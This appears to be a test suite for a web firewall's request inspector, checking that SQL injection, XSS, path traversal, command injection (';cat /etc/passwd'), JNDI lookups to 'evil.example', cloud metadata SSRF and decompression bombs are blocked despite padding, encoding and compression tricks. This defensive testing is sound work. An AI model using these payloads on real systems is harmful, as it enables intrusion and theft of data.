import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, test } from 'node:test'
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import { inspect } from '../src/inspect.ts'

const FORM = 'application/x-www-form-urlencoded'
const JSON_TYPE = 'application/json'

function post(body: string | Uint8Array, type: string, headers: readonly string[] = []): string {
  return inspect({
    method: 'POST',
    target: '/',
    headers: ['content-type', type, ...headers],
    body: Buffer.from(body),
  }).verdict
}

const ATTACKS = [
  "x' or '1'='1",
  "1' union select name, password from users--",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  ';cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://x/a}',
]

describe('an attack stays an attack', () => {
  for (const kilobytes of [8, 16, 64, 128]) {
    for (const [name, filler] of [
      ['letters', 'A'],
      ['words', 'lorem ipsum dolor '],
      ['spaces', ' '],
      ['digits', '7'],
    ] as const) {
      test(`behind ${kilobytes} KB of ${name}`, () => {
        const padding = filler.repeat(Math.ceil((kilobytes * 1024) / filler.length))
        for (const attack of [
          "x' or '1'='1",
          '<script>alert(1)</script>',
          "1' union select 1,2--",
          ';cat /etc/passwd',
        ]) {
          const value = `${padding}${name === 'words' ? ' z' : ''}${attack}`
          assert.notEqual(post(`a=${encodeURIComponent(value)}`, FORM), 'pass', attack)
          assert.notEqual(post(JSON.stringify({ a: value }), JSON_TYPE), 'pass', attack)
        }
      })
    }
  }

  test('with filler between its halves', () => {
    assert.equal(
      post(`a=${encodeURIComponent(`<img ${' '.repeat(20_000)} onerror=alert(1)>`)}`, FORM),
      'block',
    )
    assert.equal(
      post(JSON.stringify({ a: `1 union /*${'x'.repeat(20_000)}*/ select 1,2` }), JSON_TYPE),
      'block',
    )
  })

  test('encoded once, twice and three times', () => {
    for (const attack of ATTACKS) {
      let value = attack
      for (let times = 1; times <= 3; times++) {
        value = encodeURIComponent(value)
        assert.notEqual(
          inspect({ method: 'GET', target: `/?a=${value}`, headers: [] }).verdict,
          'pass',
          `${times} times ${attack}`,
        )
        assert.notEqual(post(JSON.stringify({ a: value }), JSON_TYPE), 'pass')
      }
    }
  })

  test('behind thousands of quotes, brackets or separators', () => {
    for (const decoy of ["'", '"', '(', ';', '|', '`', '<', '&', '$(', 'a;', "'a' ", ';ls']) {
      const value = `${decoy.repeat(5_000)} z`
      assert.notEqual(
        post(JSON.stringify({ a: `${value}<script>alert(1)</script>` }), JSON_TYPE),
        'pass',
        decoy,
      )
      assert.notEqual(post(JSON.stringify({ a: `${value};cat /etc/passwd` }), JSON_TYPE), 'pass', decoy)
      assert.notEqual(post(JSON.stringify({ a: `${value}' union select 1,2--` }), JSON_TYPE), 'pass', decoy)
    }
  })

  test('in base64, in entities, in escapes and as wide letters', () => {
    const attack = '<script>alert(1)</script>'
    assert.equal(post(JSON.stringify({ a: Buffer.from(attack).toString('base64') }), JSON_TYPE), 'block')
    assert.equal(
      post(JSON.stringify({ a: attack.replace(/[<>]/g, sign => `&#${sign.charCodeAt(0)};`) }), JSON_TYPE),
      'block',
    )
    assert.equal(post('{"a":"\\u003cscript\\u003ealert(1)"}', JSON_TYPE), 'block')
    assert.equal(post(JSON.stringify({ a: '\\x3cscript\\x3ealert(1)' }), JSON_TYPE), 'block')
    assert.equal(post(JSON.stringify({ a: '＜script＞alert(1)＜/script＞' }), JSON_TYPE), 'block')
    assert.equal(
      inspect({ method: 'GET', target: '/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', headers: [] }).verdict,
      'block',
    )
    assert.equal(
      inspect({ method: 'GET', target: '/?f=%u003cscript%u003ealert(1)', headers: [] }).verdict,
      'block',
    )
  })

  test('encoded more often than is read is refused, not passed over', () => {
    let value = "x' or '1'='1"
    for (let times = 0; times < 12; times++) value = encodeURIComponent(value)
    assert.equal(inspect({ method: 'GET', target: `/?a=${value}`, headers: [] }).verdict, 'too-big')
  })

  test('under a hundred levels of JSON, and beyond the bound it is too big', () => {
    const nested = (depth: number): string => `${'{"a":'.repeat(depth)}"x' or '1'='1"${'}'.repeat(depth)}`
    assert.equal(post(nested(100), JSON_TYPE), 'block')
    assert.equal(post(nested(5_000), JSON_TYPE), 'too-big')
    assert.equal(
      post(`${'<a>'.repeat(100)}&lt;script&gt;alert(1)${'</a>'.repeat(100)}`, 'application/xml'),
      'block',
    )
    assert.equal(post(`${'['.repeat(100_000)}1`, JSON_TYPE), 'too-big')
  })

  test('as the last of ten thousand parameters, and beyond the bound it is too big', () => {
    const pairs = Array.from({ length: 9_999 }, (_, index) => `p${index}=v`).join('&')
    assert.equal(post(`${pairs}&z=x'%20or%20'1'='1`, FORM), 'block')
    assert.equal(post(`${pairs}&${pairs}&${pairs}`, FORM), 'too-big')
  })

  test('as the first of two equal JSON keys, whichever a parser keeps', () => {
    assert.equal(post('{"a":"<script>x</script>","a":"fine"}', JSON_TYPE), 'block')
    assert.equal(post('{"a":"fine","a":"<script>x</script>"}', JSON_TYPE), 'block')
  })

  test('in a body that lies about its type, in a file name, in a key, in a cookie, in a header', () => {
    assert.equal(post('{"a":"<script>x</script>"}', 'text/plain'), 'block')
    assert.equal(post("a=x'%20or%20'1'='1", 'text/plain'), 'block')
    assert.equal(
      post(
        '--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\nx\r\n--b--',
        'multipart/form-data; boundary=b',
      ),
      'block',
    )
    assert.equal(post('{"user":{"$ne":null}}', JSON_TYPE), 'block')
    assert.equal(post('{"__proto__":{"admin":true}}', JSON_TYPE), 'block')
    assert.equal(
      inspect({ method: 'GET', target: '/', headers: ['cookie', "a=1' or '1'='1"] }).verdict,
      'block',
    )
    assert.equal(
      inspect({ method: 'GET', target: '/', headers: ['x-any', '${jndi:ldap://x}'] }).verdict,
      'block',
    )
  })

  test('in a compressed body; one that expands without end is too big', () => {
    const body = Buffer.from('{"a":"<script>x</script>"}')
    for (const [coding, bytes] of [
      ['gzip', gzipSync(body)],
      ['deflate', deflateSync(body)],
      ['deflate', deflateRawSync(body)],
      ['br', brotliCompressSync(body)],
    ] as const) {
      assert.equal(post(bytes, JSON_TYPE, ['content-encoding', coding]), 'block', coding)
    }
    const bomb = gzipSync(Buffer.alloc(20_000_000, 32))
    assert.equal(post(bomb, JSON_TYPE, ['content-encoding', 'gzip']), 'too-big')
    assert.equal(post(body, JSON_TYPE, ['content-encoding', 'x-unknown']), 'too-big')
  })

  test('in a form whose first field looks like something else, or whose label says more', () => {
    const attack = '&id=1%27+UNION+SELECT+username,password+FROM+users--+-'
    for (const first of [
      '{"a":1}',
      '[1]',
      '<html>',
      '<?xml version="1.0"?>',
      '<a>',
      '<!--',
      'query{a}',
      '\ufeff',
      '# t\n\n```\n',
      '%PDF-1.4\n',
      '--x\r\n',
      '\0',
    ])
      for (const label of [
        FORM,
        `${FORM}, text/plain`,
        `${FORM} x`,
        'application/x-url-encoded',
        FORM.toUpperCase(),
      ])
        assert.equal(post(first + attack, label), 'block', `${label} ${first}`)
    for (const body of [
      '{"a":1,"url":"https://a.example/?b=1&c=2"}',
      '<?xml version="1.0"?><a b="1&amp;c=2">x</a>',
      '{"a":1,}',
    ])
      assert.equal(post(body, FORM), 'pass', body)
  })

  test('in the name of a field of a form behind a first one that looks like something else', () => {
    const names = [
      "*()|&'",
      '(SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)',
      "admin'--",
      'php://filter/resource=x',
      '`id`',
    ]
    for (const name of names) {
      assert.equal(post(`a=1&${encodeURIComponent(name)}=1`, FORM), 'block', name)
      for (const first of [
        '{"a":1}',
        '[1]',
        '{"a":1,',
        '{"a":"',
        '<html>',
        '<?xml version="1.0"?>',
        'query{a}',
      ])
        assert.equal(post(`${first}&${encodeURIComponent(name)}=1`, FORM), 'block', `${first} ${name}`)
      assert.equal(post(`{"a":"&${encodeURIComponent(name)}=1"}`, FORM), 'block', `inside ${name}`)
    }
    for (const text of ['a && b == c', 'Tom & Jerry = fun', '<p>a &amp; b &nbsp;= c</p>', '?a=1&id=2'])
      assert.equal(post(JSON.stringify({ text, more: "it's" }), FORM), 'pass', text)
  })

  test('in a charset that only the label, or a mark before the text, names', () => {
    const attack = 'a=1&id=1%27+UNION+SELECT+username,password+FROM+users--+-'
    for (const charset of ['utf-16', 'utf-16le', 'UTF-16BE', '"utf-16le"'])
      assert.equal(post(attack, `${FORM}; charset=${charset}`), 'block', charset)
    for (const mark of ['fffe', 'feff', 'fffe0000', '0000feff'])
      assert.equal(
        post(Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(`&${attack}`)]), FORM),
        'block',
        mark,
      )
    const json = `{"id":"1' UNION SELECT username,password FROM users-- -"}`
    for (const type of [JSON_TYPE, 'text/plain']) {
      assert.equal(post(json, `${type}; charset=utf-16le`), 'block', type)
      assert.equal(post(Buffer.from(json, 'utf16le'), `${type}; charset=utf-16le`), 'block', type)
      assert.equal(post(Buffer.from('{"id":"7"}', 'utf16le'), `${type}; charset=utf-16le`), 'pass', type)
    }
  })

  test('in a cookie in quotes, as Python, Java and Ruby read it', () => {
    const sent = (cookie: string): string =>
      inspect({ method: 'GET', target: '/', headers: ['cookie', cookie] }).verdict
    for (const cookie of [
      `a="1'; DROP TABLE users; --"`,
      'a=b; c="\\074script\\076alert(1)\\074/script\\076"',
      `$Version=1; a="1\\' OR \\'1\\'=\\'1"`,
      `a="1' UNION/*;*/SELECT/*;*/password/*;*/FROM/*;*/users-- -"`,
    ])
      assert.equal(sent(cookie), 'block', cookie)
    for (const cookie of ['a="hello; world"', 'prefs="{\\"a\\":1\\0541}"; b="c', 'a="x\\'])
      assert.equal(sent(cookie), 'pass', cookie)
    for (const piece of ['="\\\\', 'a="x', 'a="\\"', '="";']) assert.ok(sent(piece.repeat(8_000)))
  })

  test('in repeated parameters, which some frameworks join with a comma', () => {
    const sent = (query: string): string =>
      inspect({ method: 'GET', target: `/?${query}`, headers: [] }).verdict
    for (const query of [
      'id=-1/*&id=*/UNION/*&id=*/SELECT/*&id=*/1',
      'id=-1/*&x=1&ID=%2A%2FUNION/*&id=*/SELECT/*&id=*/1',
      'q=%3Cscript/*&q=*/%3Ealert(1)/*&q=*/%3C/script%3E',
    ]) {
      assert.equal(sent(query), 'block', query)
      assert.equal(post(query, FORM), 'block', query)
    }
    for (const query of [
      'q=a*/b&q=c&tag=1&tag=2',
      'type=image/*&type=text/*&accept=*/*&accept=a',
      'a=1>0&a=2>1',
    ])
      assert.equal(sent(query), 'pass', query)
  })

  test('in what a coding carries beside the body, for most backends read the bytes as they were sent', () => {
    const attack = "&id=1' UNION SELECT password FROM users-- -&"
    const part = `\r\n--b\r\nContent-Disposition: form-data; name="id"\r\n\r\n1' UNION SELECT password FROM users-- -\r\n--b--\r\n`
    const named = (name: string): Buffer => {
      // RFC 1952 section 2.3: the flag FNAME, and a name that ends in a zero byte.
      const plain = gzipSync('a=hello')
      return Buffer.concat([
        plain.subarray(0, 3),
        Buffer.of(8),
        plain.subarray(4, 10),
        Buffer.from(`${name}\0`),
        plain.subarray(10),
      ])
    }
    // RFC 8878 section 3.1.2: a skippable frame.
    const skipped = (text: string): Buffer => {
      const head = Buffer.from('502a4d1800000000', 'hex')
      head.writeUInt32LE(text.length, 4)
      return Buffer.concat([head, Buffer.from(text), zstdCompressSync('a=hello')])
    }
    for (const [coding, make] of [
      ['gzip', named],
      ['zstd', skipped],
    ] as const) {
      const labels = ['content-encoding', coding]
      assert.equal(post(make(attack), FORM, labels), 'block', coding)
      assert.equal(post(make('x'), FORM, labels), 'pass', coding)
      assert.equal(post(make(part), 'multipart/form-data; boundary=b', labels), 'block', coding)
    }
  })

  test('but not in the bytes of a form that was compressed', () => {
    for (let i = 0; i < 300; i++) {
      const hashes = Array.from({ length: 1 + i }, (_, at) =>
        createHash('sha256').update(`${i} ${at}`).digest('base64url'),
      )
      const value = hashes.join('')
      for (const [coding, compress] of [
        ['gzip', gzipSync],
        ['zstd', zstdCompressSync],
      ] as const)
        for (const type of [FORM, JSON_TYPE, 'multipart/form-data; boundary=b'])
          assert.equal(post(compress(`data=${value}&name=Ann`), type, ['content-encoding', coding]), 'pass')
    }
  })

  test('in the strings of a GraphQL document, whose own braces are nothing to remark', () => {
    const query = (id: string): string =>
      JSON.stringify({ query: `query Q { user(id: "${id}") { name orders(first: 5) { id } } }` })
    assert.equal(post(query('42'), JSON_TYPE), 'pass')
    assert.equal(post(query("1' or '1'='1"), JSON_TYPE), 'block')
  })

  test('a session handed over from another site is refused, one of its own is not', () => {
    const from = (referer: string): string =>
      inspect({
        method: 'GET',
        target: '/?jsessionid=abc&sid=1',
        headers: ['host', 'shop.example', 'referer', referer],
      }).verdict
    assert.equal(from('https://evil.example/'), 'block')
    assert.equal(from('https://shop.example/login'), 'pass')
  })
})

describe('under a name that says it is a secret', () => {
  const as = (name: string, value: string): string[] => [
    post(JSON.stringify({ [name]: value }), JSON_TYPE),
    post(`${name}=${encodeURIComponent(value)}`, FORM),
  ]
  for (const attack of [
    '${jndi:ldap://evil.example/a}',
    '../../../../etc/passwd',
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(document.domain)>',
    'php://filter/convert.base64-encode/resource=index',
    'http://169.254.169.254/latest/meta-data/iam/',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    "1' UNION SELECT username,password FROM users-- -",
  ])
    test(`what chance does not make is refused: ${attack}`, () => {
      for (const name of ['password', 'token', 'pwd', 'reset_token', 'csrf_token'])
        assert.deepEqual(as(name, attack), ['block', 'block'], name)
    })

  test('what chance makes passes', () => {
    for (const value of [
      "' or 9>8$x",
      '{{i.!gCg#>`$~Bz',
      '<%U|v2&Yg*rXu`~pTz',
      '${da_3;;3G`}Ql',
      'a|b;c&d>e<f',
      '../x!Q',
    ])
      assert.deepEqual(as('password', value), ['pass', 'pass'], value)
  })
})
